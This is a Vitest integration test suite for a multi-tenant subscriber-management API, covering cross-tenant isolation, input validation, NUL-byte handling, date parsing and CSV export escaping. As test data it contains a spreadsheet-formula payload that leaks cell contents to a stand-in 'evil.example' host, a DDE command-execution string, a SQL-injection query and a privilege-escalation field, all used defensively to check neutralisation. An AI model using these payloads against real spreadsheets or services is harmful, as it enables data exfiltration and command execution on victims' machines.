import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type Stack, signupTenant, startStack, type TestTenant } from "../../../../../tests/harness.ts";

let stack: Stack;
let a: TestTenant;
let b: TestTenant;
let subA: { id: string };
let planA: string;

const as = (t: TestTenant, method: string, path: string, body?: unknown) =>
  stack.request(method, path, { host: t.host, token: t.token, ...(body === undefined ? {} : { body }) });

beforeAll(async () => {
  stack = await startStack();
  [a, b] = await Promise.all([signupTenant(stack), signupTenant(stack)]);
  planA = (await as(a, "POST", "/api/plans", { name: "A plan", downloadKbps: 100, uploadKbps: 100 })).body.plan.id;
  subA = (await as(a, "POST", "/api/subscribers", { username: "shared-name", password: "pass1234", planId: planA }))
    .body.subscriber;
});
afterAll(() => stack.close());

describe("subscriber and plan isolation", () => {
  it("never reads, changes or deletes another tenant's subscriber by id", async () => {
    for (const [method, path, body] of [
      ["GET", `/api/subscribers/${subA.id}`],
      ["PATCH", `/api/subscribers/${subA.id}`, { notes: "pwned" }],
      ["POST", `/api/subscribers/${subA.id}/disable`],
      ["POST", `/api/subscribers/${subA.id}/reveal-password`],
      ["GET", `/api/subscribers/${subA.id}/usage`],
      ["DELETE", `/api/subscribers/${subA.id}`],
    ] as const) {
      const res = await as(b, method, path, body);
      expect(res.status, `${method} ${path}`).toBe(404);
      expect(res.body.error.code).toBe("not_found");
    }
    const own = await as(a, "GET", `/api/subscribers/${subA.id}`);
    expect(own.body.subscriber).toMatchObject({ status: "active", notes: "" });
  });

  it("cannot attach another tenant's plan, and usernames are unique per tenant only", async () => {
    const res = await as(b, "POST", "/api/subscribers", { username: "x1", password: "pass1234", planId: planA });
    expect(res.status).toBe(400);
    expect((await as(b, "GET", `/api/plans/${planA}`)).status).toBe(404);
    const planB = (await as(b, "POST", "/api/plans", { name: "B plan", downloadKbps: 100, uploadKbps: 100 })).body.plan
      .id;
    expect(
      (await as(b, "POST", "/api/subscribers", { username: "shared-name", password: "pass1234", planId: planB }))
        .status,
    ).toBe(201);
    const listB = await as(b, "GET", "/api/subscribers");
    expect(listB.body.items.map((s: { id: string }) => s.id)).not.toContain(subA.id);
    const csv = await as(b, "GET", "/api/subscribers/export.csv");
    expect(String(csv.body)).not.toContain("A plan");
  });

  it("refuses ids, bodies and queries that are malformed, with the stable error body", async () => {
    expect((await as(a, "GET", "/api/subscribers/not-a-uuid")).status).toBe(400);
    const extra = await as(a, "POST", "/api/subscribers", {
      username: "y",
      password: "pass1234",
      planId: planA,
      isAdmin: true,
    });
    expect(extra.status).toBe(400);
    expect(Object.keys(extra.body.error).sort()).toEqual(["code", "details", "message", "requestId"]);
    expect((await as(a, "GET", "/api/subscribers?search=%27%20or%201%3D1--")).body.items).toEqual([]);
    expect(
      (await as(a, "POST", "/api/subscribers", { username: "bad name", password: "pass1234", planId: planA })).status,
    ).toBe(400);
  });
});

describe("stored references stay inside the tenant", () => {
  it("refuses another tenant's or a made-up pool and reseller id, on create and on change, storing nothing", async () => {
    const poolB = (await as(b, "POST", "/api/ip-pools", { name: "B pool", cidr: "10.77.0.0/29" })).body.pool.id;
    const resellerB = (
      await as(b, "POST", "/api/resellers", {
        name: "B reseller",
        email: "r@b-refs.example",
        password: "reseller-pw-1",
      })
    ).body.reseller.id;
    const random = "7f0c6a55-0b4e-4a8e-9d59-3c1e0f6b2a11";
    for (const [field, id, message] of [
      ["ipPoolId", poolB, "ipPoolId: no such IP pool"],
      ["ipPoolId", random, "ipPoolId: no such IP pool"],
      ["resellerId", resellerB, "resellerId: no such reseller"],
      ["resellerId", random, "resellerId: no such reseller"],
    ] as const) {
      const res = await as(a, "POST", "/api/subscribers", {
        username: `ref-${field}-${id.slice(0, 4)}`,
        password: "pass1234",
        planId: planA,
        [field]: id,
      });
      expect(res.status, `${field}=${id}`).toBe(400);
      expect(res.body.error).toMatchObject({ code: "validation_error", message });
    }
    const names = (await as(a, "GET", "/api/subscribers?search=ref-")).body.items;
    expect(names).toEqual([]);
    for (const id of [poolB, random]) {
      const res = await as(a, "PATCH", `/api/subscribers/${subA.id}`, { ipPoolId: id });
      expect(res.status).toBe(400);
      expect(res.body.error.message).toBe("ipPoolId: no such IP pool");
    }
    expect((await as(a, "GET", `/api/subscribers/${subA.id}`)).body.subscriber.ipPoolId).toBeNull();
    const poolA = (await as(a, "POST", "/api/ip-pools", { name: "A pool", cidr: "10.78.0.0/29" })).body.pool.id;
    expect((await as(a, "PATCH", `/api/subscribers/${subA.id}`, { ipPoolId: poolA })).status).toBe(200);
    expect((await as(a, "PATCH", `/api/subscribers/${subA.id}`, { ipPoolId: null })).status).toBe(200);
  });
});

describe("every other stored reference", () => {
  it("refuses another tenant's and a made-up id in each field that names a row, and stores nothing", async () => {
    const random = "0e6f2d31-8c1a-4f57-b0a4-5d7a9c3e2b10";
    const poolB = (await as(b, "POST", "/api/ip-pools", { name: "B pool 2", cidr: "10.79.0.0/29" })).body.pool.id;
    const nasB = (await as(b, "POST", "/api/nas", { name: "B nas", ipAddress: "203.0.113.77" })).body.nas.id;
    const subB = (
      await as(b, "POST", "/api/subscribers", {
        username: "b-ref",
        password: "pass1234",
        planId: (
          await as(b, "POST", "/api/plans", { name: "B ref plan", downloadKbps: 1, uploadKbps: 1 })
        ).body.plan.id,
      })
    ).body.subscriber.id;
    const groupB = (await as(b, "GET", "/api/permission-groups")).body.items[0].id;
    const poolA = (await as(a, "POST", "/api/ip-pools", { name: "A pool 2", cidr: "10.80.0.0/29" })).body.pool.id;
    const cases: [string, string, (id: string) => Record<string, unknown>, number[]][] = [
      [
        "POST",
        "/api/plans",
        (id) => ({ name: `ref plan ${id.slice(0, 4)}`, downloadKbps: 1, uploadKbps: 1, ipPoolId: id }),
        [400],
      ],
      ["POST", "/api/wireguard/peers", (id) => ({ nasId: id }), [400]],
      ["POST", `/api/ip-pools/${poolA}/allocations`, (id) => ({ subscriberId: id }), [400]],
      ["POST", "/api/invoices", (id) => ({ subscriberId: id, amountCents: 100, description: "x" }), [404]],
      ["POST", "/api/transactions/payments", (id) => ({ subscriberId: id, amountCents: 100, description: "x" }), [404]],
      [
        "POST",
        "/api/users",
        (id) => ({ email: `u${id.slice(0, 4)}@a-refs.example`, password: "long-password-1", permissionGroupId: id }),
        [400],
      ],
    ];
    const foreignFor: Record<string, string> = {
      "/api/plans": poolB,
      "/api/wireguard/peers": nasB,
      [`/api/ip-pools/${poolA}/allocations`]: subB,
      "/api/invoices": subB,
      "/api/transactions/payments": subB,
      "/api/users": groupB,
    };
    for (const [method, path, body, statuses] of cases) {
      for (const id of [foreignFor[path] ?? "", random]) {
        const res = await as(a, method, path, body(id));
        expect(statuses, `${path} ${id}`).toContain(res.status);
        expect(["validation_error", "not_found"]).toContain(res.body.error.code);
      }
    }
    expect((await as(a, "GET", "/api/invoices")).body.items).toEqual([]);
  });
});

describe("exports", () => {
  it("never hands a spreadsheet a live formula from a subscriber's fields", async () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const notes = "@SUM(1+1)*cmd|' /C calc'!A0";
    const created = await as(a, "POST", "/api/subscribers", {
      username: "formula-user",
      password: "pass1234",
      planId: planA,
      fullName: formula,
      notes,
      phone: "+254700000001",
    });
    expect(created.status).toBe(201);
    const csv = String((await as(a, "GET", "/api/subscribers/export.csv")).body);
    const line = csv.split("\n").find((l) => l.startsWith("formula-user,")) ?? "";
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(line).toContain(`'@SUM(1+1)*cmd|' /C calc'!A0`);
    expect(line).toContain(",+254700000001,");
    expect(line).not.toMatch(/,=|,"=|,@|,"@/);
  });
});

describe("bytes PostgreSQL cannot store, and junk dates", () => {
  it("answers a NUL in any text field or filter with 400 naming the field, never a 500", async () => {
    for (const path of [
      "/api/subscribers?search=%00",
      "/api/ip-pools?search=%00",
      "/api/nas?search=%00",
      "/api/plans?search=%00",
      "/api/users?search=%00",
      "/api/audit-logs?action=a%00b",
      "/api/invoices?status=%00",
    ]) {
      const res = await as(a, "GET", path);
      expect(res.status, path).toBe(400);
      expect(res.body.error.code, path).toBe("validation_error");
    }
    const writes: [string, string, Record<string, unknown>, string][] = [
      [
        "POST",
        "/api/subscribers",
        { username: "nul1", password: "pass1234", planId: planA, fullName: "a\u0000b" },
        "fullName",
      ],
      ["PATCH", `/api/subscribers/${subA.id}`, { notes: "x\u0000" }, "notes"],
      ["POST", "/api/plans", { name: "p\u0000", downloadKbps: 100, uploadKbps: 100 }, "name"],
    ];
    for (const [method, path, body, field] of writes) {
      const res = await as(a, method, path, body);
      expect(res.status, path).toBe(400);
      expect(res.body.error.message, path).toContain(`${field}: must not contain a NUL character`);
    }
    const signup = await stack.request("POST", "/api/signup", {
      body: {
        slug: "nulco",
        companyName: "a\u0000b",
        plan: "trial",
        adminEmail: "n@nul.example",
        adminPassword: "long-password-1",
      },
    });
    expect(signup.status).toBe(400);
    expect(signup.body.error.message).toContain("companyName: must not contain a NUL character");
    const csv = await stack.request("POST", "/api/subscribers/import", {
      host: a.host,
      token: a.token,
      body: "username,password,plan\nnul2,pass1234,A plan\u0000\n",
      headers: { "content-type": "text/csv" },
    });
    expect(csv.status).toBe(400);
    expect(csv.body.error.message).toContain("Line 2");
    expect((await as(a, "GET", `/api/subscribers/${subA.id}`)).body.subscriber.notes).toBe("");
  });

  it("reads dates only in ISO 8601", async () => {
    for (const q of ["from=$1", "from=1", "to=tomorrow", "from=2027-13-01"]) {
      const res = await as(a, "GET", `/api/audit-logs?${q}`);
      expect(res.status, q).toBe(400);
      expect(res.body.error.code).toBe("validation_error");
    }
    expect((await as(a, "GET", "/api/audit-logs?from=2026-01-01&to=2030-01-01T00:00:00Z")).status).toBe(200);
    const bad = await as(a, "PATCH", `/api/subscribers/${subA.id}`, { expiresAt: "next week" });
    expect(bad.status).toBe(400);
  });
});
